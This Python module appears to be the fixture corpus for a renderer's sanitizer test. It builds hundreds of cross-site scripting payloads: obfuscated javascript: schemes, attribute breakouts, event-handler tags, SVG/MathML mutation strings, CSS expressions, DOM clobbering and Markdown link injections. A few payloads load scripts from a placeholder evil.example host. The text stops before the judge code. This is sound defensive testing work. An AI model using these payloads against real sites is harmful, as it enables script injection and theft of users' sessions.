"""Strings that try to run a script, and a judge that says whether one would."""

from __future__ import annotations

import re
from itertools import product
from typing import Any

import html5lib

from renderers.words import tree_of

RUN = "alert(1)"

_SPELLINGS = [
    "javascript:",
    "JaVaScRiPt:",
    " javascript:",
    "\x01javascript:",
    "\x00javascript:",
    "\u00a0javascript:",
    "\u2028javascript:",
    "\ufeffjavascript:",
    "java\tscript:",
    "java\nscript:",
    "java\r\nscript:",
    "java\x00script:",
    "java\u200bscript:",
    "java\u00adscript:",
    "javascript\t:",
    "javascript\n:",
    "javascript :",
    "javascript&colon;",
    "javascript&#58;",
    "javascript&#x3a;",
    "javascript&#x3A;",
    "javascript&#0000058;",
    "javascript&#58",
    "javascript&amp;colon;",
    "javascript&amp;amp;colon;",
    "&#106;avascript:",
    "&#x6a;avascript:",
    "&#x0000006Aavascript:",
    "java&Tab;script:",
    "java&NewLine;script:",
    "java&#9;script:",
    "java&#x0A;script:",
    "%6aavascript:",
    "javascript%3a",
    "javascript%253a",
    "java%0ascript:",
    "\\x6aavascript:",
    "\\javascript:",
    "javascript\\:",
    "java\\script:",
    "feed:javascript:",
    "view-source:javascript:",
    "jar:javascript:",
    "vbscript:",
    "vbs:",
    "livescript:",
    "mocha:",
    "data:text/html,<script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+",
    'data:image/png;base64,AAAA" onerror="alert(1)',
    "data:,",
    "data:;base64,",
    "blob:https://example.org/",
    "filesystem:https://example.org/",
    "file:///etc/passwd",
    "about:blank",
    "ms-its:",
    "x-custom:",
]

_BLANKS = [
    *map(chr, range(33)),
    *"\x7f\x85\xa0\xad\u034f\u061c\u115f\u180e\u2000\u200b\u200d\u200e\u2028\u2029\u202e\u2060\u3000\ufeff",
]


def _spelled_otherwise(scheme: str) -> list[str]:
    """Return a scheme as browsers, decoders and people have been made to read it."""
    letters, rest = scheme[0], scheme[1:]
    middle = len(scheme) // 2
    encoded = [
        f"&#{ord(letters)};",
        f"&#{ord(letters)}",
        f"&#00000{ord(letters)};",
        f"&#x{ord(letters):x};",
        f"&#X{ord(letters):X};",
        f"&#x0000{ord(letters):x}",
        f"%{ord(letters):02x}",
        f"%25{ord(letters):02x}",
        f"%2525{ord(letters):02x}",
        f"\\x{ord(letters):02x}",
        f"\\u00{ord(letters):02x}",
        f"\\{ord(letters):x} ",
    ]
    colons = [
        "&colon;",
        "&colon",
        "&#58;",
        "&#58",
        "&#x3a;",
        "&#x3A",
        "&#0058;",
        "%3a",
        "%3A",
        "%253a",
        "%25253A",
        "&amp;colon;",
        "&amp;#58;",
        "&amp;amp;colon;",
        "&amp;amp;amp;#x3a;",
        "&#38;colon;",
        "&#x26;#58;",
        "&percnt;3a",
        "&#37;3A",
        "\\:",
        " :",
        "\t:",
        "\uff1a",
        "\ua789",
        ":&Tab;",
        "&Tab;:",
        "&NewLine;:",
    ]
    breaks = [
        "&Tab;",
        "&NewLine;",
        "&#9;",
        "&#10;",
        "&#13;",
        "&#x09;",
        "&#x0A",
        "%09",
        "%0a",
        "%0d%0a",
        "/**/",
        "\\\n",
    ]
    return [
        f"{scheme}:", f"{scheme.upper()}:", f"{scheme.title()}:",
        *[f"{first}{rest}:" for first in encoded],
        *[f"{scheme}{colon}" for colon in colons],
        *[f"{scheme[:middle]}{gap}{scheme[middle:]}:" for gap in breaks],
    ]  # fmt: skip


_OTHERWISE = [
    *(spelling for scheme in ("javascript", "vbscript") for spelling in _spelled_otherwise(scheme)),
    *(f"{blank}javascript:" for blank in _BLANKS),
    *(f"java{blank}script:" for blank in _BLANKS),
    *(f"javascript{blank}:" for blank in _BLANKS),
    *(
        f"data:{kind},<script>"
        for kind in (
            "text/html",
            "text/xml",
            "application/xhtml+xml",
            "image/svg+xml",
            "text/html;charset=utf-7",
            "",
        )
    ),
]

URLS = list(dict.fromkeys(f"{spelling}{RUN}" for spelling in (*_SPELLINGS, *_OTHERWISE)))

ATTRIBUTES = [
    '" onerror="alert(1)',
    "' onerror='alert(1)",
    '"onload=alert(1) x="',
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '"/><img src=x onerror=alert(1)>',
    '" style="background:url(javascript:alert(1))',
    '" autofocus onfocus="alert(1)',
    "` onmouseover=alert(1) `",
    '\\" onerror=\\"alert(1)',
    "&quot; onerror=&quot;alert(1)",
    "&#34; onerror=&#34;alert(1)",
    "&#x22;&#x3e;<svg/onload=alert(1)>",
    '" srcdoc="<script>alert(1)</script>',
    '" formaction="javascript:alert(1)',
    "x onclick=alert(1)",
    "x\tonclick=alert(1)",
    "x\nonclick=alert(1)",
    "x/onclick=alert(1)",
    '"\x00onerror="alert(1)',
    '\ud800" onerror="alert(1)',
    ']]>"><script>alert(1)</script>',
]

_HTML_KNOWN = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'/></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#14;javascript:alert(1)'>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<base href=javascript:alert(1)//>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<td style='background:url(javascript:alert(1))'>x</td>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<plaintext><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "--><script>alert(1)</script><!--",
    "<?php alert(1) ?><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "</article></body><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<code class='language-x\" onclick=\"alert(1)'>x</code>",
]

_EVENTS = """
    abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy
    beforeinput beforematch beforetoggle beforeunload begin blur cancel canplay change click close
    contextmenu copy cuechange cut dblclick drag dragstart drop durationchange end ended error focus focusin
    formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress load loadeddata
    loadstart message mousedown mouseenter mousemove mouseover mousewheel pageshow paste play playing
    pointerdown pointerenter pointerover pointerrawupdate popstate progress readystatechange repeat reset
    resize scroll scrollend search securitypolicyviolation seeked select selectionchange show slotchange
    start submit toggle touchstart transitionend transitionrun unhandledrejection unload volumechange
    webkitanimationend wheel
""".split()  # noqa: SIM905  # a page of names reads better so
_CARRIERS = [
    "img src=x",
    "svg",
    "body",
    "details open",
    "input autofocus",
    "video src=x",
    "p",
    "a href=/",
    "marquee",
    "x-y tabindex=1",
]
_SEPARATORS = [" ", "/", "\t", "\n", "\f", "\r", "//", "\x0b", "/ /", " x=y\n"]
_QUOTED = [
    "alert(1)",
    "'alert(1)'",
    '"alert(1)"',
    "`alert(1)`",
    "alert&lpar;1&rpar;",
    '"alert&#40;1)"',
    "\nalert(1)",
    "javascript:alert(1)",
]

_BY_EVENT = [
    f"<{_CARRIERS[index % len(_CARRIERS)]}{_SEPARATORS[index % 7]}on{event}={_QUOTED[index % len(_QUOTED)]}>x"
    for index, event in enumerate(_EVENTS)
]
_BY_SYNTAX = [
    f"<{carrier}{separator}onerror={quoted}{end}"
    for carrier, (separator, quoted, end) in product(
        _CARRIERS[:3],
        [
            *zip(
                _SEPARATORS,
                _QUOTED * 2,
                [">", "/>", " >", "\n>", " x", "", "//", ">>", " <", "\x00>"],
                strict=False,
            )
        ],
    )
]

_LOADERS = [
    '<{} src="javascript:alert(1)"></{}>', "<{} href=javascript:alert(1)>x</{}>", "<{} data=javascript:alert(1)>",
    "<{} xlink:href='javascript:alert(1)'>x</{}>", "<{} action=javascript:alert(1)>", "<{} formaction=javascript:alert(1)>x",
    "<{} srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>", "<{} background=javascript:alert(1)>", "<{} style='x:expression(alert(1))'>",
]  # fmt: skip
_LOADING = [
    loader.replace("{}", tag)
    for loader, tag in product(
        _LOADERS,
        [
            "iframe",
            "object",
            "embed",
            "a",
            "form",
            "button",
            "table",
            "image",
            "link",
            "applet",
            "area",
            "frame",
        ],
    )
]

_SVG = [
    "<svg><a href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=9>x</text></a></svg>",
    "<svg><a><set attributeName=href to=javascript:alert(1) /><text y=9>x</text></a></svg>",
    "<svg><animate onend=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributename=x dur=1s>",
    "<svg><animateTransform onbegin=alert(1) attributeName=transform>",
    "<svg><animateMotion onbegin=alert(1) dur=1s>",
    "<svg><discard onbegin=alert(1)>",
    "<svg><script href='data:text/javascript,alert(1)' />",
    "<svg><script xlink:href='data:,alert(1)' />",
    "<svg><script>alert&#40;1&#41;</script>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><image href=x onerror=alert(1)>",
    "<svg><use href='data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgb25sb2FkPSJhbGVydCgxKSIvPg==#x'>",
    "<svg><style>@import 'data:text/css,*{}'; </style><p onclick=alert(1)>x",
    "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>alert(1)</handler></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "<svg><title><img src=x onerror=alert(1)></title>",
    "<svg><desc><script>alert(1)</script></desc>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline#http://x xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><semantics><annotation-xml encoding='application/xhtml+xml'><script>alert(1)</script>",
    "<math><a xlink:href=javascript:alert(1)>x",
]

_CSS_VALUES = [
    "background:url(javascript:alert(1))", "background:url('java\\\nscript:alert(1)')", "width:expression(alert(1))",
    "w\\69 dth:expression(alert(1))", "-moz-binding:url(//evil.example/x.xml#y)", "behavior:url(x.htc)",
    "background:u\\72l(javascript:alert(1))", "list-style:url(data:text/html,<script>alert(1)</script>)",
    "@import 'javascript:alert(1)'", "position:fixed;inset:0", "color:red}</style><script>alert(1)</script>",
    "xss:expr/*x*/ession(alert(1))", "background-image:\\0075\\0072\\006c(javascript:alert(1))", "content:'</style><img src=x onerror=alert(1)>'",
    "animation-name:x' onanimationstart='alert(1)", "--x:url(javascript:alert(1));background:var(--x)",
]  # fmt: skip
_CSS = [
    form.replace("{}", value)
    for form, value in product(
        ['<p style="{}">x</p>', "<p style='{}'>x", "<style>*{{}}</style>", "<td style={}>x", "<svg><style>{}</style>",
         "<link rel=stylesheet href='data:text/css,{}'>"],
        _CSS_VALUES,
    )
]  # fmt: skip

_BAD_IMAGE = "<img src=x onerror=alert(1)>"
_RAW_TEXT = [
    "title",
    "textarea",
    "style",
    "xmp",
    "noembed",
    "noframes",
    "iframe",
    "noscript",
    "script",
    "plaintext",
    "template",
    "select",
    "option",
]
_FOREIGN = [
    "svg",
    "math",
    "svg><desc",
    "svg><title",
    "svg><foreignObject",
    "math><mtext",
    "math><mi",
    "math><annotation-xml encoding=text/html",
]
_MUTATIONS = [
    *[f'<{tag}><p title="</{tag}>{_BAD_IMAGE}">' for tag in _RAW_TEXT],
    *[f"<{foreign}><{tag}><!--</{tag}>{_BAD_IMAGE}-->" for foreign, tag in product(_FOREIGN, ["style", "title", "xmp", "noscript"])],
    *[f"<{foreign}><p><style><a id='</style>{_BAD_IMAGE}'>" for foreign in _FOREIGN],
    *[f"<form><{foreign}><form><mglyph><style></{foreign.split('>')[0]}>{_BAD_IMAGE}" for foreign in _FOREIGN],
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{_BAD_IMAGE}'>",
    f"<math><mtext><table><mglyph><style><math><table><p title='</style>{_BAD_IMAGE}'>",
    f"<svg></p><style><a id='</style>{_BAD_IMAGE}'>",
    f"<math></br><style><a title='</style>{_BAD_IMAGE}'>",
    f"<table><caption><svg><title><table><td></caption></table>{_BAD_IMAGE}",
    f"<p><svg><p><style><g title='</style>{_BAD_IMAGE}'>",
    f"<a><a><table><a><svg><title></a>{_BAD_IMAGE}",
    f"<noscript><a title='</noscript>{_BAD_IMAGE}'>x</a></noscript>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    f"<img alt='<x' title='/>{_BAD_IMAGE}'>",
    f"<x title='a&#0;b\x00>{_BAD_IMAGE}'>",
    f"<code title='`{_BAD_IMAGE}`'>`</code>",
    "<img alt='``onerror=alert(1) '>",
    f"<!-- x -->{_BAD_IMAGE}<!-- > -->",
    f"<!-- --!>{_BAD_IMAGE}<!-- -->",
    f"<!--->{_BAD_IMAGE}",
    f"<!---!>{_BAD_IMAGE}-->",
    f"<![CDATA[><{_BAD_IMAGE}]]>",
    f"<?xml x='?>{_BAD_IMAGE}'?>",
    f"<!DOCTYPE x '>{_BAD_IMAGE}'>",
    f"</x {_BAD_IMAGE}>",
    f"<//{_BAD_IMAGE}",
    f"<%{_BAD_IMAGE}%>",
    f"&lt;{_BAD_IMAGE}&gt;",
    f"\ufeff{_BAD_IMAGE}",
    f"<b\x00>{_BAD_IMAGE}",
    "<\x00img src=x onerror=alert(1)>",
    "<im\x00g src=x onerror=alert(1)>",
    "<img src=x one\x00rror=alert(1)>",
    "<img src=x onerror\x00=alert(1)>",
    "\uff1cimg src=x onerror=alert(1)\uff1e",
    "+ADw-img src=x onerror=alert(1)+AD4-",
    "\u2039img src=x onerror=alert(1)\u203a",
    "<div id=body><div id=cookie><form id=x><input name=attributes>",
    "<a id=location><a id=location name=href href=javascript:alert(1)>",
    "<img name=getElementById><form name=createElement>",
]  # fmt: skip

_OPENERS = [
    *_FOREIGN,
    "svg><desc><svg",
    "svg><foreignObject><math",
    "math><mtext><svg",
    "math><annotation-xml encoding=application/xhtml+xml",
    "math><annotation-xml encoding=text/html><svg",
    "math><semantics><annotation-xml",
    "math><mn><table",
    "table><colgroup",
    "select><svg",
    "select><math><mtext",
    "form><math><mtext></form><form",
    "option><svg",
    "template><svg",
    "div><template shadowrootmode=open",
    "details open><summary",
    "frameset><frame",
    "ruby><rtc><svg",
]
"""Ways into another namespace, or into another mode of the parser."""

_NAMESPACES = [
    form.replace("{}", opener).replace("[]", opener.partition(">")[0])
    for form, opener in product(
        [
            f"<{{}}><mglyph><style><!--</style><img title='--&gt;{_BAD_IMAGE}'>",
            f"<{{}}><malignmark><title></[]>{_BAD_IMAGE}</title>",
            f"<{{}}><noembed><p id='</noembed>{_BAD_IMAGE}'>",
            f"<{{}}><p title='</[]>{_BAD_IMAGE}'></p><style></[]>{_BAD_IMAGE}</style>",
            f"<{{}}><textarea><a title='</textarea>{_BAD_IMAGE}'></[]>",
            f"<{{}}><![CDATA[</[]>{_BAD_IMAGE}]]>",
            f"<{{}}><a href='/'><table><a><style><!--</[]>{_BAD_IMAGE}-->",
        ],
        _OPENERS,
    )
]

_LESS_KNOWN = [
    "<a href=/ ping=javascript:alert(1)>x</a>",
    "<img srcset='javascript:alert(1) 1x, data:text/html,x 2x'>",
    "<link rel=preload as=image imagesrcset='javascript:alert(1)' href=/>",
    "<picture><source srcset='data:image/svg+xml,<svg onload=alert(1)>'><img src=x></picture>",
    "<input type=image src=x onerror=alert(1) formaction=javascript:alert(1)>",
    "<body background=javascript:alert(1)><table background=javascript:alert(1)><td background=data:text/html,x>",
    "<video poster=javascript:alert(1) src=x><track default src=javascript:alert(1)></video>",
    "<meta http-equiv=Refresh content='0; URL=data:text/html,<script>alert(1)</script>'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    "<meta http-equiv=set-cookie content=a=b>",
    "<base href=//evil.example/><base target='<script>'>",
    "<object type=text/x-scriptlet data=data:text/html,x></object>",
    "<embed type=image/svg+xml src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+'>",
    "<fencedframe src=javascript:alert(1)></fencedframe><portal src=javascript:alert(1)></portal>",
    "<button popovertarget=x onbeforetoggle=alert(1)>x</button><p popover id=x ontoggle=alert(1)>",
    "<button command=show-modal commandfor=x>x</button><dialog id=x onclose=alert(1)>",
    "<details name=x open ontoggle=alert(1)>x</details>",
    "<p is=x-y slot=z part=w exportparts=v onclick=alert(1)>x",
    "<slot onslotchange=alert(1)>x</slot>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>",
    '<script type=speculationrules>{"prefetch": [{"urls": ["/"]}]}</script>',
    '<script type=importmap>{"imports": {"x": "data:text/javascript,alert(1)"}}</script>',
    "<link rel=modulepreload href=data:text/javascript,alert(1)>",
    "<style>@import url(//evil.example/x.css);p{animation:x}</style><p onanimationstart=alert(1)>x",
    "<style><!--</style><script>alert(1)//--></script>",
    "<keygen autofocus onfocus=alert(1)><isindex type=image src=1 onerror=alert(1)><bgsound src=javascript:alert(1)>",
    "<layer src=javascript:alert(1)></layer><ilayer src=javascript:alert(1)></ilayer><xml src=x></xml>",
    "<svg><image xlink:href='data:image/svg+xml,<svg onload=alert(1)>'/></svg>",
    "<svg><feImage href='data:image/svg+xml,<svg onload=alert(1)>'/></svg>",
    "<svg><a><animate attributeName=href from=javascript:alert(1) to=/ /><text y=9>x</text></a></svg>",
    "<svg><animate href=#x attributeName=onclick to=alert(1) /><a id=x>",
    "<svg><view><script href=data:,alert(1) /></view>",
    "<svg><foreignobject><body xmlns='http://www.w3.org/1999/xhtml' onload=alert(1)>",
    "<math><mrow href=javascript:alert(1)><mi>x</mi></mrow></math>",
    "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<a><svg><a><desc></a></desc><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<noframes><p id='</noframes><img src=x onerror=alert(1)>'></noframes>",
    "<select><keygen><img src=x onerror=alert(1)></select>",
    "<select><selectedcontent><img src=x onerror=alert(1)></selectedcontent><button><selectedcontent></button>",
    "<table><tr><td></svg><svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<p id='\u2028'\u2028onclick=alert(1)>x</p\u2028onclick=alert(1)>",
    "<img src=x\u3000onerror=alert(1)><img\xa0src=x onerror=alert(1)><img src=x\u180eonerror=alert(1)>",
    "<img src=x OnErRoR\u200b=alert(1)><img src=x \u200bonerror=alert(1)><ı\u0307mg src=x onerror=alert(1)>",
    "<\u017fcript>alert(1)</\u017fcript><\u212aeygen onfocus=alert(1)>",
    "<a id=location name=location href=javascript:alert(1)><a id=config data-url=javascript:alert(1)>",
    "<form id=document><input name=body><input name=cookie><output name=createElement></form>",
    "<h1 id=attributes>x</h1><h2 id=body>x</h2><img id=currentScript name=currentScript src=x>",
    "<iframe name=self srcdoc='<a id=x name=y href=javascript:alert(1)>'></iframe>",
    "<li id='fn-1\" onclick=\"alert(1)'>x</li><a id=fn-1 href=javascript:alert(1)>x</a>",
    "<sup class='footnote-ref\" onclick=\"alert(1)'>x</sup><a class=footnote-backref href=javascript:alert(1)>x</a>",
    "<!--block 0--><img src=x onerror=alert(1)><!--end of block-->",
    "<!-- raw HTML omitted --><img src=x onerror=alert(1)>",
]

HTML = list(
    dict.fromkeys([
        *_HTML_KNOWN, *_BY_EVENT, *_BY_SYNTAX, *_LOADING, *_SVG, *_CSS, *_MUTATIONS, *_NAMESPACES, *_LESS_KNOWN,
    ])
)  # fmt: skip

_MARKDOWN_FORMS = [
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "[x][r]\n\n[r]: {}",
    "[r]\n\n[r]: <{}>",
    "<{}>",
    "[![x]({})](/y)",
    "[x]({} 'title')",
    "[x][]\n\n[x]: {} (title)",
    "- [x] [y]({})",
    "| [x]({}) | ![y]({}) |\n| - | - |",
    "# [x]({})",
    "> [x]({})",
    "*[**x**]({})*",
    "[^1]\n\n[^1]: [x]({})",
    "x\n: [y]({})",
    "www.example.com/{}",
    "https://example.com/?{}",
    "<a href='{}'>[x]({})</a>",
]
_FEW_URLS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "javascript&colon;alert(1)",
    "javascript&#58;alert(1)", "javascript&amp;colon;alert(1)", "javascript%3aalert(1)", "javascript\\:alert(1)",
    "vbscript:alert(1)", "data:text/html,<script>alert(1)</script>", "data:image/svg+xml,<svg/onload=alert(1)>",
    "&#x6a;avascript:alert(1)", "\x01javascript:alert(1)", "java&NewLine;script:alert(1)",
]  # fmt: skip

MARKDOWN = [
    *[form.replace("{}", url) for form, url in product(_MARKDOWN_FORMS, _FEW_URLS)],
    '[x](/y "\\" onclick=\\"alert(1)")',
    "[x](/y '&quot; onclick=&quot;alert(1)')",
    '![" onerror="alert(1)](/x)',
    "![&quot; onerror=&quot;alert(1)](/x)",
    '![<img alt="x" onerror=alert(1)>](/x)',
    '![x](/y" onerror="alert(1))',
    '```x" onclick="alert(1)\ncode\n```',
    "```<script>alert(1)</script>\ncode\n```",
    "`<script>alert(1)</script>`",
    "~~<script>alert(1)</script>~~",
    "| <script>alert(1)</script> | x |\n| :-: | - |\n| <img src=x onerror=alert(1)> | y |",
    "- [x] <img src=x onerror=alert(1)>",
    "# <svg onload=alert(1)>",
    "> <iframe src=javascript:alert(1)>",
    "<div\n\nonclick=alert(1)>x</div>",
    "*<img src=x* onerror=alert(1)>",
    "\\<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;alert(1)",
    '<http://x.example/"onclick=alert(1)>',
    '<a@b.example" onclick=alert(1)>',
    '[x](https://x.example/"onclick="alert(1)")',
    "[x]: javascript:alert(1) '\" onclick=\"alert(1)'\n\n[x]",
    "[x](javascript&amp;colon;alert(1))",
    "[a]: /x\n\n[a]<img src=x onerror=alert(1)>",
    "[<img src=x onerror=alert(1)>](/x)",
    "![<img src=x onerror=alert(1)>](/x)",
    "![x](/x '<img src=x onerror=alert(1)>')",
    '[x](<javascript:alert(1)//> "x")',
    '[x](</y"onclick="alert(1)>)',
    'https://example.com/"onclick="alert(1)',
    "www.example.com/'onclick='alert(1)",
    'a@b.example"onclick="alert(1)',
    "x@javascript:alert(1).example",
    "http://javascript:alert(1)@example.com",
    "javascript://www.example.com/%0aalert(1)",
    "[x]: <javascript:alert(1)>\n[x]",
    '~~~ html" onclick="alert(1)\nx\n~~~',
    "    <script>alert(1)</script>",
    "``` <img src=x onerror=alert(1)> ```",
    "``<script>alert(1)</script>``",
    "<script>\n\nalert(1)\n\n</script>",
    "<div>\n\n[x](javascript:alert(1))\n\n</div>",
    "<p>\n# <img src=x onerror=alert(1)>\n</p>",
    "a<b onclick=alert(1)>*c*</b>",
    '<a href="/x\nonclick=alert(1)">',
    "<!--\n\n--><img src=x onerror=alert(1)>",
    "\\<img src=x onerror=alert(1)>",
    "[^<img src=x onerror=alert(1)>]: x\n\n[^<img src=x onerror=alert(1)>]",
    '[^"onclick=alert(1)]: x\n\n[^"onclick=alert(1)]',
    "# x {#y onclick=alert(1)}",
    '# " onclick="alert(1)',
    "{{ <script>alert(1)</script> }}",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "&amp;#60;img src=x onerror=alert(1)&amp;#62;",
    "[x](/y 'a\n\nb <img src=x onerror=alert(1)>')",
    "[x](/y '&#x22; onclick=&#x22;alert(1)' )",
    "[x](/y (\\) onclick=alert(1) \\())",
    "![a *b* [c](javascript:alert(1)) `<img src=x onerror=alert(1)>`](/x '\"><script>alert(1)</script>')",
    '![![](javascript:alert(1))" onerror="alert(1)](/x)',
    "[x]\n\n[x]: /y\n'title\" onclick=\"alert(1)'",
    "[x]\n\n[X]:\n  <javascript:alert(1)>\n  'y'",
    "[a\\]b][c\\]]\n\n[c\\]]: javascript:alert(1)",
    "[ẞ]\n\n[SS]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)> <vbscript:x> <data:text/html,<script>>",
    '<http://a.example/\x00"onclick=alert(1)>',
    '<made-up-scheme://foo> <MAILTO:a@b.example?"onclick=alert(1)>',
    "http://a.example/<img/src=x/onerror=alert(1)>",
    "http://a.example/&quot;onclick=&quot;alert(1)",
    "http://a.example/&lt;img src=x onerror=alert(1)&gt;",
    "www.a.example/'onclick='alert(1)'&lt;",
    "[http://a.example/](javascript:alert(1))",
    "[x](http://a.example/\u202egpj.exe 'y')",
    "[^a b]: <img src=x onerror=alert(1)>\n\n[^a b]",
    "x[^__proto__] y[^constructor]\n\n[^__proto__]: [x](javascript:alert(1))\n[^constructor]: </li></ol></section><script>alert(1)</script>",
    'x[^1]\n\n[^1]: </p></li><img src=x onerror=alert(1)>\n\n    ```" onclick="alert(1)\n    x',
    "x[^1]: ^[inline <img src=x onerror=alert(1)>]",
    "| a | b |\n|:-:|-|\n| `|` <img src=x onerror=alert(1)> \\| | [x](javascript:alert(1)\\|) |",
    '| a" onclick="alert(1) |\n| :-: |\n| <td onclick=alert(1)> </table><script>alert(1)</script> |',
    '``` js" onload="alert(1) {onclick=alert(1)}\nx\n```',
    "```&quot;&#x20;onclick=&quot;alert(1)\nx\n```",
    "```</code></pre><script>alert(1)</script>\nx\n```",
    '~~~ `\\" onclick=alert(1)\nx\n~~~',
    "    \t<script>alert(1)</script>\n\n</code></pre><script>alert(1)</script>",
    "- <div\n- onclick=alert(1)>x",
    "> <img\n> src=x\n> onerror=alert(1)>",
    "1. <!--\n2. --><img src=x onerror=alert(1)>",
    "<pre>\n\n</pre><img src=x onerror=alert(1)>",
    "<p title='\n\n'><img src=x onerror=alert(1)>",
    "<textarea>\n\n*x*</textarea><img src=x onerror=alert(1)>",
    "<?x\n\n?><img src=x onerror=alert(1)>",
    "<!X\n\n><img src=x onerror=alert(1)>",
    "<![CDATA[\n\n]]><img src=x onerror=alert(1)>",
    "a <!-- b -- c --> <img src=x onerror=alert(1)>",
    "a <b c='\nd' onclick=alert(1)\n>e",
    "*<b*onclick=alert(1)>x</b>",
    "`<b`title='`onclick=alert(1)`'>x",
    "x\n<img src=x onerror=alert(1)\n===",
    "term <img src=x onerror=alert(1)>\n: <b onclick=alert(1)>def</b>\n: [x](javascript:alert(1))",
    '- [x] <input type=checkbox onclick=alert(1) checked="" disabled="" />',
    '<a href="">[x](javascript:alert(1))</a>',
    '<img src="" alt="<script>alert(1)</script>" />',
    "\\[x](javascript:alert(1)) [x]\\(javascript:alert(1)) [x](\\javascript:alert(1))",
    "[x](javascript:alert(1)\\)) [x](<javascript:alert(1)\\>>) [x](java\\script:alert(1))",
    "[x](/\\javascript:alert(1)) [x](//javascript:alert(1)) [x](.javascript:alert(1))",
]

ATTACKS = list(dict.fromkeys([*URLS, *ATTRIBUTES, *HTML, *MARKDOWN]))

_ELEMENTS = {
    "script", "iframe", "object", "embed", "base", "svg", "math", "form", "input", "button",
    "textarea", "select", "template", "noscript", "applet", "frame", "frameset", "animate", "portal", "audio",
}  # fmt: skip
_URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "poster",
    "data",
    "background",
    "cite",
    "ping",
    "srcset",
}
_HARMLESS = re.compile(
    r"(?:https?|mailto|tel):|data:image/(?:png|gif|jpeg|webp|avif);base64,[A-Za-z0-9+/=]*\Z", re.IGNORECASE
)
_SCHEME = re.compile(r"[a-z][a-z0-9+.\-]*:", re.IGNORECASE)
_PLAYER = re.compile(
